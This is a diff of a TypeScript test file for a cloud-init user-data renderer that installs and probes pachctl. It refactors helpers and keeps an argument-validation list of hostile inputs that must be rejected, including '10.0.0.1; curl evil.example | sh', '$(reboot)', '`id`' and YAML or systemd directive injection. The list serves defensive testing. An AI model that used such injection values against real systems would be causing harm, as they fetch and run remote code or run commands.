@@ -1,36 +1,12 @@
 import { spawnSync } from "child_process";
-import { createHash } from "crypto";
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "fs";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "fs";
 import { tmpdir } from "os";
 import { join } from "path";
 import fc from "fast-check";
-import { parse, stringify } from "yaml";
+import { stringify } from "yaml";
 import { IngressUserDataArgs, renderIngressUserData } from "../../lib/cloudinit/ingress";
 import { ensureCloudInit, validateCloudConfig } from "../helpers/cloudInitSchema";
-
-// Read the pin file from disk (not through the module) so the test checks what the renderer embeds.
-const pins = JSON.parse(readFileSync(join(__dirname, "../../lib/cloudinit/pachctl.json"), "utf8"));
-const PINNED_VERSION: string = pins.version;
-const PINNED_SHA: string = pins.assets.linux_amd64.sha256;
-const PINNED_URL: string = pins.assets.linux_amd64.url;
-
-interface WriteFile {
-    path: string;
-    content: string;
-    permissions?: string;
-    owner?: string;
-    defer?: boolean;
-}
-interface CloudConfig {
-    package_update: boolean;
-    package_upgrade: boolean;
-    packages: string[];
-    ssh_pwauth: boolean;
-    write_files: WriteFile[];
-    runcmd: string[][];
-}
-
-const base: IngressUserDataArgs = { pachctlVersion: PINNED_VERSION, pachdInternalIp: "10.40.15.250", adminUsername: "labadmin" };
+import { base, file, load, PINNED_SHA, PINNED_URL, PINNED_VERSION, WriteFile } from "./ingressDocument";
 
 const cases: Array<{ name: string; args: IngressUserDataArgs; port: number; minutes: number }> = [
     { name: "prod defaults", args: base, port: 30650, minutes: 5 },
@@ -59,17 +35,6 @@ const cases: Array<{ name: string; args: IngressUserDataArgs; port: number; minu
         minutes: 1,
     },
 ];
-
-function load(userData: string): CloudConfig {
-    expect(userData.startsWith("#cloud-config\n")).toBe(true);
-    return parse(userData, { version: "1.1" }) as CloudConfig;
-}
-
-function file(doc: CloudConfig, path: string): WriteFile {
-    const f = doc.write_files.find((w) => w.path === path);
-    if (f === undefined) throw new Error(`write_files has no ${path}`);
-    return f;
-}
 
 const cloudInit = ensureCloudInit();
 if (!cloudInit) {
@@ -189,7 +154,9 @@ describe("renderIngressUserData content", () => {
             expect({ path: w.path, status: r.status, stderr: r.stderr }).toEqual({ path: w.path, status: 0, stderr: "" });
         }
     });
+});
 
+describe("renderIngressUserData: unattended upgrades and determinism", () => {
     const aptConfig = spawnSync("apt-config", ["--version"]).status === 0 ? test : test.skip;
     aptConfig("apt reads the unattended-upgrades files as security-only, daily (apt-config dump)", () => {
         const dir = mkdtempSync(join(tmpdir(), "apt-parts-"));
@@ -224,58 +191,59 @@ describe("renderIngressUserData content", () => {
     });
 });
 
-describe("argument validation", () => {
-    const hostile: Array<[keyof IngressUserDataArgs, unknown]> = [
-        ["pachdInternalIp", "10.0.0.1; curl evil.example | sh"],
-        ["pachdInternalIp", "10.0.0.1\nruncmd: [[reboot]]"],
-        ["pachdInternalIp", "$(reboot)"],
-        ["pachdInternalIp", "`id`"],
-        ["pachdInternalIp", "10.0.0.1' && reboot '"],
-        ["pachdInternalIp", '10.0.0.1"}'],
-        ["pachdInternalIp", "10.0.0.1 # x"],
-        ["pachdInternalIp", " 10.0.0.1"],
-        ["pachdInternalIp", "10.0.0.256"],
-        ["pachdInternalIp", "010.0.0.1"],
-        ["pachdInternalIp", "10.0.0"],
-        ["pachdInternalIp", "10.0.0.1:30650"],
-        ["pachdInternalIp", "::1"],
-        ["pachdInternalIp", "127.0.0.1"],
-        ["pachdInternalIp", "0.0.0.0"],
-        ["pachdInternalIp", ""],
-        ["pachdInternalIp", 167772161],
-        ["adminUsername", "root"],
-        ["adminUsername", "admin"],
-        ["adminUsername", "Administrator"],
-        ["adminUsername", "lab admin"],
-        ["adminUsername", "lab;reboot"],
-        ["adminUsername", "lab$(id)"],
-        ["adminUsername", "lab\nadmin"],
-        ["adminUsername", "lab: {x: y}"],
-        ["adminUsername", "'lab'"],
-        ["adminUsername", "-lab"],
-        ["adminUsername", "1lab"],
-        ["adminUsername", "a".repeat(33)],
-        ["adminUsername", "../etc"],
-        ["adminUsername", ""],
-        ["pachctlVersion", "2.12.2; curl evil.example | sh"],
-        ["pachctlVersion", "2.12.2\n"],
-        ["pachctlVersion", "v2.12.2"],
-        ["pachctlVersion", "2.12"],
-        ["pachctlVersion", "latest"],
-        ["pachctlVersion", "2.12.3"],
-        ["pachctlVersion", "2.11.0"],
-        ["grpcPort", 0],
-        ["grpcPort", 70000],
-        ["grpcPort", 30650.5],
-        ["grpcPort", Number.NaN],
-        ["grpcPort", "30650; reboot"],
-        ["healthCheckIntervalMinutes", 0],
-        ["healthCheckIntervalMinutes", -5],
-        ["healthCheckIntervalMinutes", 2.5],
-        ["healthCheckIntervalMinutes", 100000],
-        ["healthCheckIntervalMinutes", "5min\nOnBootSec=0"],
-    ];
+/** Values an attacker or a typo could put in each argument: every one must be refused. */
+const hostile: Array<[keyof IngressUserDataArgs, unknown]> = [
+    ["pachdInternalIp", "10.0.0.1; curl evil.example | sh"],
+    ["pachdInternalIp", "10.0.0.1\nruncmd: [[reboot]]"],
+    ["pachdInternalIp", "$(reboot)"],
+    ["pachdInternalIp", "`id`"],
+    ["pachdInternalIp", "10.0.0.1' && reboot '"],
+    ["pachdInternalIp", '10.0.0.1"}'],
+    ["pachdInternalIp", "10.0.0.1 # x"],
+    ["pachdInternalIp", " 10.0.0.1"],
+    ["pachdInternalIp", "10.0.0.256"],
+    ["pachdInternalIp", "010.0.0.1"],
+    ["pachdInternalIp", "10.0.0"],
+    ["pachdInternalIp", "10.0.0.1:30650"],
+    ["pachdInternalIp", "::1"],
+    ["pachdInternalIp", "127.0.0.1"],
+    ["pachdInternalIp", "0.0.0.0"],
+    ["pachdInternalIp", ""],
+    ["pachdInternalIp", 167772161],
+    ["adminUsername", "root"],
+    ["adminUsername", "admin"],
+    ["adminUsername", "Administrator"],
+    ["adminUsername", "lab admin"],
+    ["adminUsername", "lab;reboot"],
+    ["adminUsername", "lab$(id)"],
+    ["adminUsername", "lab\nadmin"],
+    ["adminUsername", "lab: {x: y}"],
+    ["adminUsername", "'lab'"],
+    ["adminUsername", "-lab"],
+    ["adminUsername", "1lab"],
+    ["adminUsername", "a".repeat(33)],
+    ["adminUsername", "../etc"],
+    ["adminUsername", ""],
+    ["pachctlVersion", "2.12.2; curl evil.example | sh"],
+    ["pachctlVersion", "2.12.2\n"],
+    ["pachctlVersion", "v2.12.2"],
+    ["pachctlVersion", "2.12"],
+    ["pachctlVersion", "latest"],
+    ["pachctlVersion", "2.12.3"],
+    ["pachctlVersion", "2.11.0"],
+    ["grpcPort", 0],
+    ["grpcPort", 70000],
+    ["grpcPort", 30650.5],
+    ["grpcPort", Number.NaN],
+    ["grpcPort", "30650; reboot"],
+    ["healthCheckIntervalMinutes", 0],
+    ["healthCheckIntervalMinutes", -5],
+    ["healthCheckIntervalMinutes", 2.5],
+    ["healthCheckIntervalMinutes", 100000],
+    ["healthCheckIntervalMinutes", "5min\nOnBootSec=0"],
+];
 
+describe("argument validation", () => {
     test.each(hostile)("%s = %j throws naming the field", (field, value) => {
         const args = { ...base, [field]: value } as IngressUserDataArgs;
         expect(() => renderIngressUserData(args)).toThrow(new RegExp(`invalid ${field}\\b`));
@@ -308,94 +276,5 @@ describe("argument validation", () => {
             }),
             { numRuns: 300 },
         );
-    });
-});
-
-describe("generated scripts behave (run locally with stand-in curl, pachctl and logger)", () => {
-    let dir: string;
-    beforeEach(() => {
-        dir = mkdtempSync(join(tmpdir(), "ingress-scripts-"));
-        mkdirSync(join(dir, "bin"));
-        // logger stand-in: appends its arguments to a file (no syslog socket needed).
-        writeFileSync(join(dir, "bin", "logger"), `#!/bin/sh\nprintf '%s\\n' "$*" >> '${dir}/syslog'\n`, { mode: 0o755 });
-    });
-    afterEach(() => rmSync(dir, { recursive: true, force: true }));
-
-    const run = (script: string): { status: number | null; out: string; syslog: string } => {
-        const path = join(dir, "script.sh");
-        writeFileSync(path, script, { mode: 0o755 });
-        const r = spawnSync("sh", [path], {
-            encoding: "utf8",
-            env: { ...process.env, PATH: `${dir}/bin:${process.env.PATH}` },
-            timeout: 30_000,
-        });
-        const syslog = existsSync(join(dir, "syslog")) ? readFileSync(join(dir, "syslog"), "utf8") : "";
-        return { status: r.status, out: `${r.stdout}${r.stderr}`, syslog };
-    };
-
-    /** A tarball shaped like the release asset, and a curl stand-in that "downloads" it. */
-    const fakeRelease = (): string => {
-        const top = join(dir, "release", `pachctl_${PINNED_VERSION}_linux_amd64`);
-        mkdirSync(top, { recursive: true });
-        writeFileSync(join(top, "pachctl"), "#!/bin/sh\necho fake pachctl\n", { mode: 0o755 });
-        const tarball = join(dir, "release.tar.gz");
-        expect(spawnSync("tar", ["-czf", tarball, "-C", join(dir, "release"), `pachctl_${PINNED_VERSION}_linux_amd64`]).status).toBe(0);
-        writeFileSync(
-            join(dir, "bin", "curl"),
-            `#!/bin/sh\nwhile [ $# -gt 0 ]; do if [ "$1" = --output ]; then cp '${tarball}' "$2"; exit 0; fi; shift; done\nexit 22\n`,
-            { mode: 0o755 },
-        );
-        return createHash("sha256").update(readFileSync(tarball)).digest("hex");
-    };
-
-    const installScript = (): string => {
-        const content = file(load(renderIngressUserData(base)), "/usr/local/sbin/install-pachctl").content;
-        return content.replace("DEST='/usr/local/bin/pachctl'", `DEST='${dir}/pachctl'`);
-    };
-
-    test("install fails closed when the download does not match the pinned SHA-256", () => {
-        fakeRelease(); // its digest is not the pinned one
-        const r = run(installScript());
-        expect(r.status).not.toBe(0);
-        expect(r.out).toMatch(/FAILED/);
-        expect(r.syslog).toMatch(/SHA-256 mismatch .*NOT installed/);
-        expect(existsSync(join(dir, "pachctl"))).toBe(false);
-        expect(existsSync(join(dir, "pachctl.new"))).toBe(false);
-    });
-
-    test("install succeeds when the digest matches", () => {
-        const sha = fakeRelease();
-        const r = run(installScript().replace(`SHA256='${PINNED_SHA}'`, `SHA256='${sha}'`));
-        expect(r.out).toMatch(/pachctl\.tar\.gz: OK/);
-        expect(r.status).toBe(0);
-        expect(spawnSync(join(dir, "pachctl"), { encoding: "utf8" }).stdout).toBe("fake pachctl\n");
-    });
-
-    const probeScript = (): string =>
-        file(load(renderIngressUserData(base)), "/usr/local/sbin/pachd-reachability").content.replace(
-            "PACHCTL='/usr/local/bin/pachctl'",
-            `PACHCTL='${dir}/bin/pachctl'`,
-        );
-
-    test.each([
-        ["reachable", "exit 0", /^-t pachd-reachability -p user\.info reachable: grpc:\/\/10\.40\.15\.250:30650$/m],
-        [
-            "unreachable",
-            "echo 'context deadline exceeded' >&2; exit 1",
-            /user\.warning unreachable: grpc:\/\/10\.40\.15\.250:30650 \(exit 1\): context deadline exceeded/,
-        ],
-    ])("probe logs %s and exits 0", (_label, body, expected) => {
-        const pachctl = join(dir, "bin", "pachctl");
-        writeFileSync(pachctl, `#!/bin/sh\n[ "$1" = version ] || exit 99\n${body}\n`);
-        chmodSync(pachctl, 0o755);
-        const r = run(probeScript());
-        expect(r.status).toBe(0);
-        expect(r.syslog).toMatch(expected);
-    });
-
-    test("probe exits 0 and logs when pachctl is not installed", () => {
-        const r = run(probeScript());
-        expect(r.status).toBe(0);
-        expect(r.syslog).toMatch(/unreachable: .*pachctl is not installed/);
     });
 });
